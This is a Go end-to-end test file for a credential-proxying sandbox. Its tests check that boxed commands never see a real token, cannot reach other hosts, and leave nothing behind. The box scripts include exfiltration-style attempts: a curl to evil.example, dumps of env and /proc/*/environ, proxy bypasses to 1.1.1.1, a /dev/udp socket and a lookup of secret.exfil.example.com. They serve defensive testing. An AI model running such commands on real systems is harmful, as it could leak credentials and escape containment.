@@ -1,0 +1,234 @@
+package e2e
+
+import (
+	"bufio"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/creack/pty"
+)
+
+func TestCurlInABoxGetsTheCredentialAndNeverSeesIt(t *testing.T) {
+	u := newUser(t, "")
+	u.bind("github", githubFQN)
+	r := u.box(`
+		set -e
+		curl -sSi https://api.github.com/user
+		curl -sS https://api.github.com/rate_limit
+		curl -sS https://api.github.com/user/repos
+		env -u HTTPS_PROXY -u https_proxy curl -sS --noproxy '*' https://api.github.com/user
+		curl -sS https://api.github.com/orgs/none; curl -sS https://evil.example/x
+		curl -sS -H "Authorization: Bearer $AILERON_TOKEN" $AILERON_API_URL/session; curl -sS $AILERON_API_URL/audit -H "Authorization: Bearer $AILERON_TOKEN"
+		cat /etc/aileron/tools.txt; echo "GH_TOKEN=$GH_TOKEN"; env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'
+		grep -c . /etc/ssl/certs/ca-certificates.crt; echo done > made-in-the-box`)
+	if r.code != 0 {
+		t.Fatalf("exit %d\n%s%s", r.code, r.out, r.err)
+	}
+	contains(t, "the output", r.out, "octo-stand-in", "Bearer "+strings.Repeat("*", len(secret)), "in pieces: Bearer "+strings.Repeat("*", len(secret))+" end",
+		`"reason":"operation_not_matched"`, `"reason":"host_not_allowed"`, `"reason":"owner_only"`, `"operation":"user.get"`, "GH_TOKEN=placeholder")
+	if strings.Contains(r.out+r.err, secret[:16]) {
+		t.Error("the secret is in the output")
+	}
+	if data, err := os.ReadFile(filepath.Join(u.project, "made-in-the-box")); err != nil || string(data) != "done\n" {
+		t.Errorf("the project's file: %q, %v", data, err)
+	}
+	for _, s := range u.origin.Seen() {
+		if s.Host != "api.github.com" || s.Auth != "Bearer "+secret || s.Path == "/orgs/none" {
+			t.Errorf("the stand-in saw %+v", s)
+		}
+	}
+	if n := len(u.origin.Seen()); n != 4 {
+		t.Errorf("the stand-in saw %d requests, want 4", n)
+	}
+	if n := len(u.rows("--decision", "proxied")); n != 4 {
+		t.Errorf("%d proxied rows, want 4", n)
+	}
+	if n := len(u.rows("--decision", "rejected")); n != 3 {
+		t.Errorf("%d rejected rows, want 3: %v", n, u.rows("--decision", "rejected"))
+	}
+	u.must("audit", "verify")
+	if left := leftovers(t); left != "" {
+		t.Errorf("containers are left: %s", left)
+	}
+	// The secret is sealed at rest, and nowhere else on this disk.
+	if out, _ := exec.Command("grep", "-rlF", secret, u.home).CombinedOutput(); len(out) > 0 {
+		t.Errorf("the secret is in %s", out)
+	}
+}
+
+func TestABoxHasNoOtherWayOut(t *testing.T) {
+	u := newUser(t, "")
+	r := u.box(`
+		curl -sS --max-time 5 --noproxy '*' http://1.1.1.1/ ; echo
+		curl -sS --max-time 3 -6 --noproxy '*' 'http://[2606:4700::1111]/' ; echo "v6 $?"
+		getent hosts secret.exfil.example.com
+		grep -E 'Cap(Eff|Prm|Bnd|Amb)|NoNewPrivs|Seccomp:' /proc/self/status
+		(exec 3<>/dev/udp/192.0.2.1/53) 2>&1; ls -d /run/aileron /aileron 2>&1; mount | grep -c aileron`)
+	contains(t, "the output", r.out, "v6 ", "198.18.", "CapEff:\t0000000000000000", "CapBnd:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2",
+		"cannot access '/run/aileron'", "cannot access '/aileron'")
+	if strings.Contains(r.out, "v6 0") {
+		t.Error("IPv6 leads somewhere")
+	}
+	for _, row := range u.rows("--decision", "rejected") {
+		if row["host"] != "1.1.1.1" {
+			t.Errorf("row for %v", row["host"])
+		}
+	}
+}
+
+func TestTheExitCodeIsTheCommands(t *testing.T) {
+	u := newUser(t, "")
+	for script, want := range map[string]int{"exit 7": 7, "sh -c 'kill -TERM $$'; exit $?": 143} {
+		if r := u.box(script); r.code != want {
+			t.Errorf("%q: exit %d, want %d\n%s", script, r.code, want, r.err)
+		}
+	}
+	if r := u.run("run", "--", "sh", "-c", "exit 9"); r.code != 9 {
+		t.Errorf("on the host: exit %d, want 9", r.code)
+	}
+	if r := u.run("run", "--", "sh", "-c", "kill -KILL $$"); r.code != 137 {
+		t.Errorf("on the host, killed: exit %d, want 137", r.code)
+	}
+}
+
+func TestATerminalIsTheBoxs(t *testing.T) {
+	needPodman(t)
+	u := newUser(t, "")
+	cmd := u.command("sandbox", "run", "--sandbox=podman", "--dir", u.project, "--", "sh", "-c", `stty size; read line; echo "got $line"; trap 'stty size; exit 3' WINCH; echo waiting; while :; do sleep 0.1; done`)
+	tty, err := pty.StartWithSize(cmd, &pty.Winsize{Rows: 41, Cols: 121})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer tty.Close()
+	lines := make(chan string, 64)
+	go func() {
+		defer close(lines)
+		s := bufio.NewScanner(tty)
+		for s.Scan() {
+			lines <- s.Text()
+		}
+	}()
+	expect := func(want string) {
+		t.Helper()
+		deadline := time.After(time.Minute)
+		for {
+			select {
+			case line, ok := <-lines:
+				if !ok {
+					t.Fatalf("the terminal ended before %q", want)
+				}
+				if strings.Contains(line, want) {
+					return
+				}
+			case <-deadline:
+				t.Fatalf("%q did not come", want)
+			}
+		}
+	}
+	expect("41 121")
+	_, _ = tty.Write([]byte("hello\n"))
+	expect("got hello")
+	expect("waiting")
+	if err := pty.Setsize(tty, &pty.Winsize{Rows: 30, Cols: 90}); err != nil {
+		t.Fatal(err)
+	}
+	expect("30 90")
+	_ = cmd.Wait()
+	if code := cmd.ProcessState.ExitCode(); code != 3 {
+		t.Errorf("exit %d, want 3", code)
+	}
+}
+
+func TestASignalEndsTheBoxAndLeavesNothing(t *testing.T) {
+	needPodman(t)
+	u := newUser(t, "")
+	cmd := u.command("sandbox", "run", "--sandbox=podman", "--dir", u.project, "--", "sh", "-c", `trap 'exit 42' TERM; echo up > up; while :; do sleep 0.1; done`)
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, func() bool { _, err := os.Stat(filepath.Join(u.project, "up")); return err == nil })
+	_ = cmd.Process.Signal(syscall.SIGTERM)
+	_ = cmd.Wait()
+	if code := cmd.ProcessState.ExitCode(); code != 42 {
+		t.Errorf("exit %d, want 42", code)
+	}
+	if left := leftovers(t); left != "" {
+		t.Errorf("containers are left: %s", left)
+	}
+	if entries, _ := os.ReadDir(filepath.Join(u.home, "sessions")); len(entries) != 0 {
+		t.Errorf("session directories are left: %v", entries)
+	}
+}
+
+func TestAKilledSessionKeepsItsIntentAndIsSwept(t *testing.T) {
+	u := newUser(t, "")
+	u.bind("github", githubFQN)
+	needPodman(t)
+	cmd := u.command(append(append([]string{"sandbox", "run", "--sandbox=podman", "--dir", u.project}, u.reach()...), "--", "curl", "-sS", "https://api.github.com/search/code?q=x")...)
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, func() bool { return len(u.origin.Seen()) == 1 })
+	_ = cmd.Process.Kill()
+	_ = cmd.Wait()
+	close(u.origin.Release)
+	rows := u.rows("--event", "connector.proxy.started")
+	if len(rows) != 1 || rows[0]["operation"] != "search.code" {
+		t.Errorf("intent rows: %v", rows)
+	}
+	if n := len(u.rows("--decision", "proxied")); n != 0 {
+		t.Errorf("%d outcome rows of a killed process", n)
+	}
+	u.must("audit", "verify")
+	contains(t, "session list", u.must("session", "list").out, "unclean")
+	u.must("sandbox", "prune")
+	if left := leftovers(t); left != "" {
+		t.Errorf("containers are left: %s", left)
+	}
+}
+
+func TestAuditTailFollowsAsItHappens(t *testing.T) {
+	u := newUser(t, "")
+	u.bind("github", githubFQN)
+	tail := u.command("audit", "tail", "-f", "--json", "--decision", "proxied")
+	out, err := tail.StdoutPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := tail.Start(); err != nil {
+		t.Fatal(err)
+	}
+	lines := make(chan string, 4)
+	go func() {
+		s := bufio.NewScanner(out)
+		for s.Scan() {
+			lines <- s.Text()
+		}
+	}()
+	u.must(append(append([]string{"run"}, u.reach()...), "--", "curl", "-sS", "https://api.github.com/user")...)
+	select {
+	case line := <-lines:
+		contains(t, "the followed row", line, `"operation":"user.get"`, `"decision":"proxied"`)
+	case <-time.After(20 * time.Second):
+		t.Error("no row came")
+	}
+	_ = tail.Process.Signal(syscall.SIGINT)
+	_ = tail.Wait()
+}
+
+func waitFor(t *testing.T, done func() bool) {
+	t.Helper()
+	for range 6000 {
+		if done() {
+			return
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	t.Fatal(fmt.Errorf("it did not happen in two minutes"))
+}
